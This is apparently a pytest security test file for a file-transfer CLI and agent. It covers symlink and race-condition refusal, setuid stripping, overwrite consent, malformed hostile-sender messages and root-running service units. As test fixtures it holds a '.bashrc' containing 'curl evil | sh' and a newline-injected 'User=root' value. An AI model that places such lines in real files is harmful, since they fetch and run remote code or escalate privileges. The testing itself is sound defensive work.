"""What a receiver writes, and where: ``freight receive`` and ``freight cp``
never follow a symbolic link they find (or that is swapped in) in the
destination, never keep setuid/setgid bits, never replace a file that is
not the transfer's own without consent, and exit with the error when the
disk fails mid-write. Real hub, real CLI processes, real agent, loopback."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import pty
import resource
import select
import stat
import struct
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from freight.client.config import ClientConfig
from freight.client.relay import RelayClient
from freight.client.session import HubSession
from freight.errors import FreightError
from tests.agentsupport import Agent
from tests.relaysupport import Proc
from tests.support import PYTHON, Client, Hub, random_file, same_bytes, wait_until

MiB = 1024 * 1024


def start_send(client: Client, *args: str) -> tuple[Proc, str]:
    sender = Proc(client, "send", *args, "--json")
    try:
        first = sender.first_event()
        assert first["event"] == "code", first
    except BaseException:
        sender.kill()
        raise
    return sender, str(first["code"])


# --- the disk fails mid-write -----------------------------------------------------


def _file_size_limit(limit: int) -> None:
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))


def test_a_write_that_fails_mid_file_ends_receive_with_the_error(
    tmp_path: Path, admin: Client, bob: Client
) -> None:
    """The receiver may write at most 5 MiB per file (RLIMIT_FSIZE): the
    write of a 64 MiB file fails with EFBIG part way; ``freight receive``
    exits with a storage error instead of hanging."""
    src = random_file(tmp_path / "big.bin", 64 * MiB, seed=5)
    dest = tmp_path / "in"
    sender, code = start_send(admin, str(src))
    with sender:
        started = time.monotonic()
        res = subprocess.run(
            [PYTHON, "-m", "freight", "receive", code, "-o", str(dest)],
            env=bob.env,
            capture_output=True,
            text=True,
            timeout=60,
            preexec_fn=lambda: _file_size_limit(5 * MiB),
        )
        took = time.monotonic() - started
    assert res.returncode == 8, (res.returncode, res.stderr)
    assert "File too large" in res.stderr, res.stderr
    assert took < 30, took
    assert not (dest / "big.bin").exists()


ENTRY = {"path": "big.bin", "type": "file", "mode": 0o644, "size": 64 * MiB, "mtime": 1.6e9}


def scripted_sender(
    admin: Client, bob: Client, dest: Path, messages: list[bytes], *, words: str
) -> tuple[int, str]:
    """The SDK as a hostile sender: offers a code, runs ``freight receive``
    for it (as bob), sends ``messages`` (after a first ``M``, it waits for
    the receiver's ``W``); returns the receiver's exit code and stderr, or
    fails if it does not exit within 30 s."""

    async def go() -> tuple[int, str]:
        config = ClientConfig(admin.config)
        async with RelayClient(HubSession.from_config(config), config) as rc:
            await rc.start(identity=False)
            offer = await rc.offer(words)
            receiver = subprocess.Popen(
                [PYTHON, "-m", "freight", "receive", offer.code, "-o", str(dest)],
                env=bob.env,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.PIPE,
                text=True,
            )
            try:
                conn = await asyncio.wait_for(offer.accept(), 30)
                await conn.send(messages[0])
                if len(messages) > 1:
                    assert (await asyncio.wait_for(conn.recv(), 30))[:1] == b"W"
                for message in messages[1:]:
                    await conn.send(message)
                _, err = await asyncio.to_thread(receiver.communicate, timeout=30)
                return receiver.returncode, err
            finally:
                if receiver.poll() is None:
                    receiver.kill()
                    receiver.wait(10)

    try:
        return asyncio.run(go())
    except subprocess.TimeoutExpired:
        raise AssertionError("freight receive hung after the sender's messages") from None


def test_a_hostile_message_while_the_disk_is_busy_ends_receive(
    tmp_path: Path, admin: Client, bob: Client
) -> None:
    """A sender sends many 1 MiB chunks, so the receiver's disk writer has
    a queue of them, then a message of an unknown kind: the receiver
    refuses it at once, while a chunk is being written, and must exit with
    that error (it hung: the writer swallowed its cancellation and waited
    for more work forever)."""
    block = os.urandom(1024 * 1024 - 64)
    chunks = [b"F" + struct.pack(">IQ", 0, i * len(block)) + block for i in range(24)]
    manifest = b"M" + json.dumps({"entries": [ENTRY]}).encode()
    code, err = scripted_sender(
        admin, bob, tmp_path / "in", [manifest, *chunks, b"Q not a kind"], words="tango-lima-echo"
    )
    assert code == 7, (code, err)
    assert "unexpected message" in err, err


@pytest.mark.parametrize(
    ("messages", "says"),
    [
        ([{"entries": [{**ENTRY, "path": 7}]}], "malformed"),
        ([{"entries": [{**ENTRY, "size": "big"}]}], "malformed"),
        ([{"entries": [{**ENTRY, "mtime": 1e300}]}], "malformed"),
        ([{"entries": [ENTRY]}, b"F\x00\x00"], "malformed"),
        ([{"entries": [ENTRY]}, b'E{"index": "x", "digest": 1}'], "malformed"),
        ([{"entries": [ENTRY]}, b"B\x00\x00\x00\x09"], "malformed"),
    ],
    ids=["path-not-text", "size-not-number", "mtime-out-of-range", "chunk", "end", "batch"],
)
def test_malformed_messages_are_refused_with_a_typed_error(
    tmp_path: Path, admin: Client, bob: Client, messages: list[Any], says: str
) -> None:
    """What the sender names is type-checked: a refusal (exit 7, one line),
    never a traceback."""
    raw = [b"M" + json.dumps(m).encode() if isinstance(m, dict) else m for m in messages]
    words = "papa-" + "-".join(str(len(m)) for m in raw)
    code, err = scripted_sender(admin, bob, tmp_path / "in", raw, words=words)
    assert code == 7, (code, err)
    assert says in err and "Traceback" not in err, err
    assert len(err.strip().splitlines()) == 1, err


# --- freight receive: existing files ------------------------------------------------


def receive(client: Client, code: str, dest: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return client.run("receive", code, "-o", str(dest), *extra, check=False, timeout=60)


def test_receive_refuses_to_replace_an_existing_file(
    tmp_path: Path, admin: Client, bob: Client
) -> None:
    """Receiving into a home folder: the sender's ``.bashrc`` must not
    replace the one there (standard input is not a terminal: no question,
    a refusal naming the file and --overwrite)."""
    src = tmp_path / "src"
    src.mkdir()
    (src / ".bashrc").write_text("curl evil | sh\n")
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    os.utime(home / ".bashrc", (1_500_000_000, 1_500_000_000))
    sender, code = start_send(admin, str(src / ".bashrc"))
    with sender:
        res = receive(bob, code, home)
        assert sender.wait(30) == 7, sender.stderr
    assert res.returncode == 2, (res.returncode, res.stderr)
    line = res.stderr.strip().splitlines()[-1]
    assert str(home / ".bashrc") in line and "--overwrite" in line, res.stderr
    assert "already exists" in sender.stderr, sender.stderr
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert sorted(p.name for p in home.iterdir()) == [".bashrc"]

    # With --overwrite it is replaced.
    sender, code = start_send(admin, str(src / ".bashrc"))
    with sender:
        res = receive(bob, code, home, "--overwrite")
        assert sender.wait(30) == 0, sender.stderr
    assert res.returncode == 0, res.stderr
    assert (home / ".bashrc").read_text() == "curl evil | sh\n"


def test_receive_asks_on_a_terminal(tmp_path: Path, admin: Client, bob: Client) -> None:
    src = tmp_path / "notes.txt"
    src.write_text("new notes\n")
    dest = tmp_path / "in"
    dest.mkdir()
    (dest / "notes.txt").write_text("old notes, longer\n")
    sender, code = start_send(admin, str(src))
    with sender:
        primary, secondary = pty.openpty()
        p = subprocess.Popen(
            [PYTHON, "-m", "freight", "receive", code, "-o", str(dest)],
            env=bob.env,
            stdin=secondary,
            stdout=subprocess.DEVNULL,
            stderr=secondary,
        )
        os.close(secondary)
        try:
            seen = b""
            deadline = time.monotonic() + 60
            while b"Replace it?" not in seen:
                assert time.monotonic() < deadline, seen
                ready, _, _ = select.select([primary], [], [], 1)
                if ready:
                    try:
                        seen += os.read(primary, 4096)
                    except OSError:  # EIO: the process has closed the terminal
                        code = p.wait(10)
                        raise AssertionError(f"exited {code} without asking: {seen!r}") from None
            assert str(dest / "notes.txt").encode() in seen, seen
            os.write(primary, b"y\n")
            assert p.wait(60) == 0
        finally:
            if p.poll() is None:
                p.kill()
                p.wait(10)
            with contextlib.suppress(OSError):
                while os.read(primary, 4096):
                    pass
            os.close(primary)
        assert sender.wait(30) == 0, sender.stderr
    assert (dest / "notes.txt").read_text() == "new notes\n"


def test_receive_does_not_follow_links_it_finds(tmp_path: Path, admin: Client, bob: Client) -> None:
    """Links planted in the destination where a folder, a partial file and
    a finished file land: what they point to keeps its bytes, mode and
    time; the sender learns no digest of it."""
    outside = tmp_path / "outside"
    outside.mkdir()
    victim_dir = outside / "dir"
    victim_dir.mkdir(mode=0o700)
    victim = random_file(outside / "victim.bin", 300_000, seed=7)
    os.chmod(victim, 0o600)
    for p in (victim, victim_dir):
        os.utime(p, (1_400_000_000, 1_400_000_000))
    before = snapshot(outside)

    src = tmp_path / "src"
    (src / "empty").mkdir(parents=True)
    os.chmod(src / "empty", 0o777)
    random_file(src / "big.bin", 300_000, seed=7)  # the victim's very bytes
    os.utime(src / "big.bin", (1_400_000_000, 1_400_000_000))  # and its time
    dest = tmp_path / "in"
    (dest / "src").mkdir(parents=True)
    os.symlink(victim_dir, dest / "src" / "empty")

    sender, code = start_send(admin, str(src))
    with sender:
        res = receive(bob, code, dest, "--json")
        sender.wait(30)
    assert res.returncode != 0, res.stdout
    assert "symbolic link" in res.stderr, res.stderr
    assert snapshot(outside) == before

    # A link where the finished file lands (the same size and time as the
    # file sent): not taken for this transfer's own copy, never hashed.
    os.unlink(dest / "src" / "empty")
    os.symlink(victim, dest / "src" / "big.bin")
    sender, code = start_send(admin, str(src))
    with sender:
        res = receive(bob, code, dest, "--json")
        assert res.returncode == 2 and "--overwrite" in res.stderr, res.stderr
        sender.wait(30)
    sender, code = start_send(admin, str(src))
    with sender:
        res = receive(bob, code, dest, "--json", "--overwrite")
        assert res.returncode == 0, res.stderr
        assert json.loads(res.stdout)["resumed"] == 0, res.stdout
        sender.wait(30)
    assert not (dest / "src" / "big.bin").is_symlink()
    assert snapshot(outside) == before

    # A link where the partial file lands.
    os.unlink(dest / "src" / "big.bin")
    os.symlink(victim, dest / "src" / "big.bin.freight-part")
    sender, code = start_send(admin, str(src))
    with sender:
        res = receive(bob, code, dest, "--json")
        sender.wait(30)
    assert res.returncode != 0 and "symbolic link" in res.stderr, res.stderr
    assert snapshot(outside) == before


def snapshot(folder: Path) -> dict[str, tuple[int, float, bytes]]:
    """Mode, modification time and content of everything under ``folder``."""
    out = {}
    for p in sorted([folder, *folder.rglob("*")]):
        st = p.lstat()
        body = p.read_bytes() if p.is_file() else b""
        out[str(p)] = (st.st_mode, st.st_mtime, body)
    return out


# --- an agent: cp to and from it ------------------------------------------------------


@pytest.fixture(scope="module")
def depot(
    tmp_path_factory: pytest.TempPathFactory, shared_hub: Hub, admin: Client
) -> Iterator[Agent]:
    """Agent ``depot`` (root: ``…/served/root``; ``…/served/outside`` is
    not served), running as root like an agent installed by hand."""
    home = tmp_path_factory.mktemp("depot")
    root = home / "served" / "root"
    root.mkdir(parents=True)
    (home / "served" / "outside").mkdir()
    agent = Agent(admin, shared_hub, "depot", home, root)
    agent.start()
    yield agent
    agent.kill()


def cp(admin: Client, *args: str, ok: bool = True) -> subprocess.CompletedProcess[str]:
    res = admin.run("cp", *args, check=False, timeout=90)
    assert (res.returncode == 0) == ok, (args, res.returncode, res.stderr)
    return res


def fresh(root: Path, name: str) -> Path:
    """An empty folder of its own for one test, inside ``root``."""
    folder = root / name
    folder.mkdir()
    return folder


def outside_victims(depot: Agent, name: str) -> tuple[Path, Path]:
    """A folder and a file outside the agent's roots, with modes and times
    a test checks are never changed."""
    outside = depot.roots[0].parent / "outside" / name
    (outside / "dir").mkdir(parents=True)
    victim = outside / "victim.bin"
    victim.write_bytes(b"the owner's bytes" * 1000)
    os.chmod(outside / "dir", 0o700)
    os.chmod(victim, 0o600)
    for p in (victim, outside / "dir"):
        os.utime(p, (1_400_000_000, 1_400_000_000))
    return outside / "dir", victim


def test_cp_to_an_agent_follows_no_link_planted_in_its_roots(
    tmp_path: Path, admin: Client, depot: Agent
) -> None:
    victim_dir, victim = outside_victims(depot, "planted")
    before = snapshot(victim.parent)
    drop = fresh(depot.roots[0], "planted")
    local = tmp_path / "local"
    (local / "empty").mkdir(parents=True)
    os.chmod(local / "empty", 0o777)
    os.utime(local / "empty", (1_600_000_000, 1_600_000_000))
    small = local / "small.bin"
    small.write_bytes(b"x" * 100)
    big = random_file(local / "big.bin", 2 * MiB, seed=9)

    # A folder entry lands on a link to a folder outside the roots: its mode
    # and time were set through the link.
    os.symlink(victim_dir, drop / "empty")
    res = cp(admin, "-r", str(local / "empty"), depot.remote(drop) + "/", ok=False)
    assert "symbolic link" in res.stderr, res.stderr
    # A partial file is a link to a file outside (small files and large).
    os.symlink(victim, drop / "small.bin.freight-part")
    res = cp(admin, str(small), depot.remote(drop) + "/", ok=False)
    assert "symbolic link" in res.stderr, res.stderr
    os.symlink(victim, drop / "big.bin.freight-part")
    res = cp(admin, str(big), depot.remote(drop) + "/", ok=False)
    assert "symbolic link" in res.stderr, res.stderr
    assert snapshot(victim.parent) == before


def test_setuid_and_setgid_bits_are_not_kept(tmp_path: Path, admin: Client, depot: Agent) -> None:
    local = tmp_path / "tools"
    local.mkdir()
    tool = local / "tool"
    tool.write_bytes(b"#!/bin/sh\n")
    os.chmod(tool, 0o4755)
    os.chmod(local, 0o2775)
    drop = fresh(depot.roots[0], "setuid")
    cp(admin, "-r", str(local), depot.remote(drop) + "/")
    assert stat.S_IMODE((drop / "tools" / "tool").stat().st_mode) == 0o755
    assert stat.S_IMODE((drop / "tools").stat().st_mode) == 0o775


def test_a_link_swapped_in_after_the_check_is_not_followed(
    tmp_path: Path, admin: Client, depot: Agent
) -> None:
    """The agent checks the destination (inside its roots), answers, and
    only then receives the list: a folder on the path replaced by a link
    to outside the roots in between is refused, not followed."""
    _, victim = outside_victims(depot, "swapped")
    outside = victim.parent
    before = snapshot(outside)
    drop = fresh(depot.roots[0], "swapped")
    (drop / "sub").mkdir()

    async def go() -> bytes:
        config = ClientConfig(admin.config)
        async with RelayClient(HubSession.from_config(config), config) as rc:
            await rc.start()
            conn = await rc.connect("depot", "freight.files", timeout=30)
            request = {"op": "put", "path": f"{drop}/sub/", "overwrite": False}
            await conn.send(b"Q" + json.dumps(request).encode())
            answer = await asyncio.wait_for(conn.recv(), 30)
            assert json.loads(answer[1:])["ok"] is True, answer
            # Checked: now swap the folder for a link to outside the roots.
            os.rename(drop / "sub", drop / "sub-was")
            os.symlink(outside, drop / "sub")
            entry = {"path": "planted.txt", "type": "file", "mode": 0o644, "size": 3, "mtime": 1e9}
            await conn.send(b"M" + json.dumps({"entries": [entry]}).encode())
            return await asyncio.wait_for(conn.recv(), 30)

    reply = asyncio.run(go())
    assert reply[:1] == b"K" and b"symbolic link" in reply, reply
    assert snapshot(outside) == before
    assert not (outside / "planted.txt").exists()


def test_cp_to_an_agent_replaces_a_file_only_when_asked_and_allowed(
    tmp_path: Path, admin: Client, depot: Agent
) -> None:
    drop = fresh(depot.roots[0], "replace")
    theirs = drop / "config.ini"
    theirs.write_text("the agent's\n")
    local = tmp_path / "config.ini"
    local.write_text("the admin's, longer\n")

    res = cp(admin, str(local), depot.remote(drop) + "/", ok=False)
    assert str(theirs) in res.stderr and "--overwrite" in res.stderr, res.stderr
    # Asked, but the agent's owner does not allow it (the default).
    res = cp(admin, "--overwrite", str(local), depot.remote(theirs), ok=False)
    assert "allow_overwrite" in res.stderr, res.stderr
    assert theirs.read_text() == "the agent's\n"

    set_policy(admin, depot, allow_overwrite=True)
    try:
        res = cp(admin, str(local), depot.remote(theirs), ok=False)  # still needs asking
        assert "--overwrite" in res.stderr, res.stderr
        cp(admin, "--overwrite", str(local), depot.remote(theirs))
        assert theirs.read_text() == "the admin's, longer\n"
    finally:
        set_policy(admin, depot, allow_overwrite=False)


def set_policy(admin: Client, depot: Agent, *, allow_overwrite: bool) -> None:
    """Edit the agent's agent.json as its owner would, and reload it."""
    path = depot.client.config / "agent.json"
    cfg = json.loads(path.read_text())
    cfg["allow_overwrite"] = allow_overwrite
    path.write_text(json.dumps(cfg))
    res = admin.run("agents", "cmd", "depot", "reload_config", "--wait", "30")
    assert json.loads(res.stdout)["state"] == "done", res.stdout


def test_cp_download_replaces_a_local_file_only_with_overwrite(
    tmp_path: Path, admin: Client, depot: Agent
) -> None:
    src = fresh(depot.roots[0], "download-replace") / "report.txt"
    src.write_text("from the agent\n")
    mine = tmp_path / "report.txt"
    mine.write_text("my own report, longer\n")
    res = cp(admin, depot.remote(src), str(tmp_path), ok=False)
    assert res.returncode == 2 and str(mine) in res.stderr and "--overwrite" in res.stderr
    assert mine.read_text() == "my own report, longer\n"
    cp(admin, "--overwrite", depot.remote(src), str(tmp_path))
    assert mine.read_text() == "from the agent\n"


# --- cp's rules for the destination, both ways ------------------------------------------


def test_cp_destination_rules_to_an_agent(tmp_path: Path, admin: Client, depot: Agent) -> None:
    base = fresh(depot.roots[0], "rules-up")
    (base / "folder").mkdir()
    f = random_file(tmp_path / "file.bin", 70_000, seed=3)
    g = random_file(tmp_path / "other.bin", 1000, seed=4)
    tree = tmp_path / "tree"
    (tree / "sub").mkdir(parents=True)
    (tree / "sub" / "leaf.txt").write_text("leaf\n")

    # A target that does not exist names the file.
    cp(admin, str(f), depot.remote(base / "new.bin"))
    assert (base / "new.bin").is_file() and same_bytes(f, base / "new.bin")
    # An existing folder receives it.
    cp(admin, str(f), depot.remote(base / "folder"))
    assert same_bytes(f, base / "folder" / "file.bin")
    # A trailing slash demands a folder.
    res = cp(admin, str(f), depot.remote(base / "missing") + "/", ok=False)
    assert "no such folder" in res.stderr, res.stderr
    res = cp(admin, str(f), depot.remote(base / "new.bin") + "/", ok=False)
    assert "not a folder" in res.stderr, res.stderr
    # Several sources need an existing folder; a missing parent is an error.
    res = cp(admin, str(f), str(g), depot.remote(base / "several"), ok=False)
    assert "no such folder" in res.stderr, res.stderr
    res = cp(admin, str(f), depot.remote(base / "no" / "such" / "file.bin"), ok=False)
    assert "no such folder" in res.stderr, res.stderr
    # -r: a missing target becomes the copy; an existing one receives it.
    cp(admin, "-r", str(tree), depot.remote(base / "copy"))
    assert (base / "copy" / "sub" / "leaf.txt").read_text() == "leaf\n"
    cp(admin, "-r", str(tree), depot.remote(base / "copy"))
    assert (base / "copy" / "tree" / "sub" / "leaf.txt").read_text() == "leaf\n"
    # A folder does not replace a file.
    res = cp(admin, "-r", str(tree), depot.remote(base / "new.bin"), ok=False)
    assert "cannot replace it with a folder" in res.stderr, res.stderr
    assert sorted(p.name for p in base.iterdir()) == ["copy", "folder", "new.bin"]


def test_cp_destination_rules_from_an_agent(tmp_path: Path, admin: Client, depot: Agent) -> None:
    base = fresh(depot.roots[0], "rules-down")
    f = random_file(base / "file.bin", 70_000, seed=5)
    tree = base / "tree"
    (tree / "sub").mkdir(parents=True)
    (tree / "sub" / "leaf.txt").write_text("leaf\n")
    here = tmp_path / "here"
    (here / "folder").mkdir(parents=True)

    cp(admin, depot.remote(f), str(here / "new.bin"))
    assert (here / "new.bin").is_file() and same_bytes(f, here / "new.bin")
    cp(admin, depot.remote(f), str(here / "folder"))
    assert same_bytes(f, here / "folder" / "file.bin")
    res = cp(admin, depot.remote(f), str(here / "missing") + "/", ok=False)
    assert "no such folder" in res.stderr, res.stderr
    res = cp(admin, depot.remote(f), str(here / "new.bin") + "/", ok=False)
    assert "not a folder" in res.stderr, res.stderr
    res = cp(admin, depot.remote(f), str(here / "no" / "such" / "file.bin"), ok=False)
    assert "no such folder" in res.stderr, res.stderr
    cp(admin, "-r", depot.remote(tree), str(here / "copy"))
    assert (here / "copy" / "sub" / "leaf.txt").read_text() == "leaf\n"
    cp(admin, "-r", depot.remote(tree), str(here / "copy"))
    assert (here / "copy" / "tree" / "sub" / "leaf.txt").read_text() == "leaf\n"
    res = cp(admin, "-r", depot.remote(tree), str(here / "new.bin"), ok=False)
    assert "cannot replace it with a folder" in res.stderr, res.stderr
    assert sorted(p.name for p in here.iterdir()) == ["copy", "folder", "new.bin"]


# --- freight pull: the partial file ----------------------------------------------------


def test_a_pulled_partial_is_private_until_finished_and_never_a_link(
    tmp_path: Path, admin: Client
) -> None:
    src = random_file(tmp_path / "pulled.bin", 3 * MiB, seed=13)
    admin.run("push", str(src), "--as", "receiving/pulled.bin")
    dest = tmp_path / "out"
    dest.mkdir()
    partial = dest / "pulled.bin.freight-partial"

    # A link planted where the partial lands: nothing is written through it.
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    os.symlink(victim, partial)
    res = admin.run("pull", "receiving/pulled.bin", str(dest), check=False, timeout=60)
    assert res.returncode != 0 and "symbolic link" in res.stderr, res.stderr
    assert victim.read_text() == "keep me\n"
    os.unlink(partial)

    # Slowly, so the partial can be seen: only its owner may read it.
    with Proc(admin, "pull", "receiving/pulled.bin", str(dest), "--limit", "1M") as p:
        wait_until(lambda: partial.exists() or not p.running, 30, "the partial file")
        assert stat.S_IMODE(partial.stat().st_mode) == 0o600
        assert p.wait(60) == 0, p.stderr
    mask = os.umask(0)
    os.umask(mask)
    assert stat.S_IMODE((dest / "pulled.bin").stat().st_mode) == 0o666 & ~mask
    assert same_bytes(src, dest / "pulled.bin")


def test_the_printed_unit_does_not_run_the_agent_as_root(tmp_path: Path, depot: Agent) -> None:
    unit = depot.client.run("agent", "run", "--print-unit").stdout
    assert "\nUser=freight\n" in unit and "\nGroup=freight\n" in unit, unit
    assert "User=root" not in unit.replace("# ", "")
    assert "NoNewPrivileges=yes" in unit
    # How to change it is said in the unit itself.
    assert "change User= and Group=" in unit, unit
    other = depot.client.run("agent", "run", "--print-unit", "--unit-user", "svc-agent").stdout
    assert "\nUser=svc-agent\n" in other
    res = depot.client.run(
        "agent", "run", "--print-unit", "--unit-user", "x\nUser=root", check=False
    )
    assert res.returncode == 2 and "not a user name" in res.stderr, res.stderr


def test_receive_file_keeps_an_existing_file_unless_asked_and_allowed(
    tmp_path: Path, admin: Client, depot: Agent
) -> None:
    local = tmp_path / "fix.bin"
    local.write_bytes(b"the hub's copy\n")
    admin.run("push", str(local), "--as", "receiving/fix.bin")
    drop = fresh(depot.roots[0], "receive-file")
    theirs = drop / "fix.bin"
    theirs.write_text("the agent's own\n")

    def run(*extra: str) -> dict[str, Any]:
        args = ["--arg", "name=receiving/fix.bin", "--arg", f"dest={drop}/"]
        for a in extra:
            args += ["--arg", a]
        res = admin.run(
            "agents", "cmd", "depot", "receive_file", *args, "--wait", "60", check=False
        )
        return dict(json.loads(res.stdout))

    row = run()
    assert row["state"] == "failed" and "overwrite=true" in row["result"]["error"], row
    row = run("overwrite=true")
    assert row["state"] == "failed" and "allow_overwrite" in row["result"]["error"], row
    assert theirs.read_text() == "the agent's own\n"
    set_policy(admin, depot, allow_overwrite=True)
    try:
        row = run("overwrite=true")
        assert row["state"] == "done", row
    finally:
        set_policy(admin, depot, allow_overwrite=False)
    assert theirs.read_bytes() == b"the hub's copy\n"


def test_a_link_swapped_in_before_the_agent_reads_is_not_followed(
    tmp_path: Path, admin: Client, depot: Agent
) -> None:
    """cp from an agent: after the agent listed a folder (checked inside its
    roots), the folder becomes a link to outside; the agent must not read
    and send what is there (a file of the same size)."""
    outside = depot.roots[0].parent / "outside" / "read-swap"
    outside.mkdir(parents=True)
    (outside / "secret.txt").write_bytes(b"outside!")
    base = fresh(depot.roots[0], "read-swap")
    (base / "sub").mkdir()
    (base / "sub" / "secret.txt").write_bytes(b"inside!!")

    async def go() -> list[bytes]:
        config = ClientConfig(admin.config)
        got: list[bytes] = []
        async with RelayClient(HubSession.from_config(config), config) as rc:
            await rc.start()
            conn = await rc.connect("depot", "freight.files", timeout=30)
            request = {"op": "get", "path": f"{base}/sub", "recursive": True}
            await conn.send(b"Q" + json.dumps(request).encode())
            answer = await asyncio.wait_for(conn.recv(), 30)
            assert json.loads(answer[1:])["ok"] is True, answer
            manifest = await asyncio.wait_for(conn.recv(), 30)
            assert manifest[:1] == b"M", manifest
            count = len(json.loads(manifest[1:])["entries"])
            os.rename(base / "sub", base / "sub-was")
            os.symlink(outside, base / "sub")
            await conn.send(b"W" + json.dumps({"have": [[0, ""]] * count}).encode())
            with contextlib.suppress(FreightError, TimeoutError):
                while data := await asyncio.wait_for(conn.recv(), 30):
                    got.append(data)
        return got

    got = asyncio.run(go())
    assert not any(b"outside!" in data for data in got), got
